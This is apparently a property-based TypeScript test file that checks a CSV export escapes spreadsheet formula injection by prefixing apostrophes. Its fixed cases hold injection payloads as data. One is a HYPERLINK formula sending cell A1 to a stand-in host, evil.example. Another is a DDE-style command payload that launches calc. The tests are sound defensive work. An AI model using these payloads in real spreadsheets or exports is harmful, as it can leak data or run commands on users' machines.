import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { type Cell, toCsv } from 'sync-protocol/commerce'
import { expect, it } from 'vitest'

const HEADER = ['first', 'second']

/** The row below the header, as spreadsheets read it. */
function readBack(cells: readonly [Cell, Cell]): string[] {
  const rows: string[][] = parse(toCsv(HEADER, [cells]), { bom: true, record_delimiter: '\r\n' })
  expect(rows).toHaveLength(2)
  expect(rows[0]).toEqual(HEADER)
  return rows[1] ?? []
}

const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '\t',
        '\r',
        '"',
        ',',
        ';',
        '\n',
        ' ',
        "'",
        '1',
        'A',
      ),
      fc.string({ unit: 'grapheme', maxLength: 3 }),
    ),
    { maxLength: 8 },
  )
  .map(parts => parts.join(''))

/** Removes apostrophes that keep a text from being a formula, including original ones. */
function plain(text: string): string {
  const less = text.replace(/'+(?=[\s"]*[=+\-@＝＋－＠]|[\t\r])/g, '')
  return less === text ? text : plain(less)
}

it('a CSV parser reads every text back unchanged and none as a formula', () => {
  fc.assert(
    fc.property(hostile, hostile, (first, second) => {
      const read = readBack([first, second])
      for (const cell of read) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r]/)
      expect(read.map(plain)).toEqual([first, second].map(plain))
    }),
  )
})

it('a program that splits at semicolons reads no formula, however it treats quotes and line ends', () => {
  fc.assert(
    fc.property(hostile, hostile, (first, second) => {
      const cells = toCsv(HEADER, [[first, second]]).split(/[;\t\r\n]/)
      for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
    }),
  )
})

it.each([
  [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    `'=HYPERLINK("https://evil.example?"&A1,"Click")`,
  ],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['Ada;=1+1', "Ada;'=1+1"],
  ['Ada\n@SUM(A1)', "Ada\n'@SUM(A1)"],
  ['Ada; "=1+1"', `Ada; "'=1+1"`],
])('%j is read as a text with an apostrophe', (text, shown) => {
  expect(readBack([text, null])).toEqual([shown, ''])
})

it.each([-1, 0, 12.34, -0.5])('the number %s stays a number', number => {
  expect(readBack([number, 'x'])).toEqual([String(number), 'x'])
})
